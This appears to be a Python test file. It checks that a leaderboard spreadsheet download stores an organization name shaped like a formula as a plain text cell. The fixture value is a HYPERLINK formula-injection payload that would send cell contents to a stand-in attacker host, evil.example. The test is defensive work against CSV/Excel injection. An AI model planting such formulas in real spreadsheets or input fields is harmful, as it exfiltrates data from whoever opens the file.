"""The public top.xlsx keeps organization names as text: anyone can download it, so a name
typed like a formula must never run in the reader's spreadsheet."""

from __future__ import annotations

import io
from typing import Any

from openpyxl import load_workbook

from saidao.campaigns.tests.factories import live_phases, make_campaign
from saidao.conftest import Tree
from saidao.leaderboards.runner import run_once
from saidao.leaderboards.tests.recount import member_takes_part

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"点我")'


def test_an_anonymous_download_shows_a_hostile_name_as_text(
    tree: Tree, client: Any, settings: Any
) -> None:
    """An organization named like a formula is a text cell with exactly that name."""
    settings.SAIDAO_RATE_MIN_MEMBERS = 1
    tree.dingxi.name = LINK
    tree.dingxi.save(update_fields=["name"])
    campaign = make_campaign(
        actor=tree.national_officer, organizer=tree.national, phases=live_phases()
    )
    member_takes_part(campaign, tree.courier, "c1", city="621100")
    run_once()
    r = client.get(f"/api/v1/campaigns/{campaign.pk}/leaderboard/top.xlsx", {"level": "city"})
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
    cell = ws["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (LINK, "s", False)
    assert ws["A2"].data_type == "n"
